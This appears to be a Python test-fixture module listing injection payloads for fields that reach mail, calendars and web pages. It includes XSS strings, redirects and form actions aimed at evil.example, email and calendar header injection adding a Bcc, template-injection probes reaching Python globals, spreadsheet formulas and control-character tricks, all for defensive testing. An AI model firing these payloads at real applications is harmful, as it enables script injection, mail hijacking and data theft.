"""What people with bad intentions type: planted wherever somebody's words reach a mail, a calendar or a page.

By what each is to bring about; notes on security, section 2, rows 9 to 14, and 2.1.
"""

SCRIPTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "</title><svg/onload=alert(1)>",
    "{{7*7}}</textarea><b>",
    "]]></script><script>alert(1)</script>",
)
MARKUP = (
    "<b>bold</b><i>x</i>",
    "'><svg/onload=alert(1)>",
    "</td></tr></table><a href=https://evil.example>x</a>",
    "</style><style>*{display:none}</style>",
    "</title><h1>x</h1>",
    "<!-- x --><![CDATA[x]]>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example><form action=https://evil.example><input name=x>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<b>x'></iframe>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "&lt;b&gt; &#x3c;b&#x3e; &amp;amp;",
    "`'\"></script><x onclick=alert(1) x",
    "<ＩＭＧ SRC=x>",
    "<p style='position:fixed;inset:0'>x</p>",
)
LINKS = (
    "https://evil.example",
    "<https://evil.example>",
    "www.evil.example",
    "mailto:zed@evil.example",
    "[x](https://evil.example)",
    "![x](https://evil.example/x.png)",
    "[x]: https://evil.example",
    "[x](javascript:alert(1))",
    "javascript:alert(1)",
    "data:text/html,<b>x",
    "https://desk.example@evil.example/r/x",
    "http://desk.example/r/abc.evil.example",
    "http://desk.example/r/abc/../../evil",
    "http://desk.example/r/abcd",
    "(http://desk.example.evil.example)",
)
MARKDOWN = ("# x", "**x** _y_ `z`", "- x", "> x", "| a | b |", "---", "    x")
HEADERS = (
    "=?utf-8?q?=0D=0ABcc:_zed=40x.example?=",
    "=?utf-8?b?DQpCY2M6IHplZEB4LmV4YW1wbGU=?=",
    "x%0d%0aBcc:%20zed@evil.example",
    "Bcc: zed@evil.example",
    '"x" <zed@evil.example>, y',
    "x, y <zed@evil.example>; z",
    "(comment) x <a@b>",
    "x:y;",
    "@evil.example:zed",
    "List-Unsubscribe: <https://evil.example>",
    "å" * 60,
    "x " * 45 + "x",
)
CALENDAR = (
    "x\\nATTENDEE:mailto:zed@evil.example",
    "END:VEVENT BEGIN:VALARM",
    "x;ALTREP=https://evil.example:y",
    'CN="x":mailto:zed@evil.example',
    "a\\,b;c\\;d\\\\",
    "^n^'^^",
    "DTSTART:20000101T000000Z",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{manage_link} {title} {name}",
    "{0.__class__.__init__.__globals__}",
    "{event.__class__}",
    "%(name)s %s %n",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{{{{name}}}} {{name}}",
    "{# x #} {% raw %}",
    "｛｛7*7｝｝",
    "$name ${name}",
    "{{ config }} {{ self.__init__ }}",
)
FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "＝1+1")
#: All of one line: what a field for a line can hold.
PAYLOADS = (*SCRIPTS, *MARKUP, *LINKS, *MARKDOWN, *HEADERS, *CALENDAR, *TEMPLATES, *FORMULAS)
#: What a field for many lines can hold beside.
LINES = (
    "\n\n- <b>\n\n# x",
    "x\n\nSubject: y\nBcc: zed@evil.example\n\n<b>",
    "[x][y]\n\n[y]: https://evil.example",
    "```\n<b>\n```\n\n    <i>\n\n| a |\n|---|\n| b |",
    "BEGIN:VCALENDAR\nEND:VCALENDAR",
)
#: What no form lets in, on one line or on many.
CONTROLS = (
    "x\r\nBcc: zed@evil.example",
    "x\rBcc: y",
    "x\x00y",
    "x\x1b[31m",
    "x\u2028y",
    "x\u202ey",
    "x\x85y",
    "x\ud800y",
)
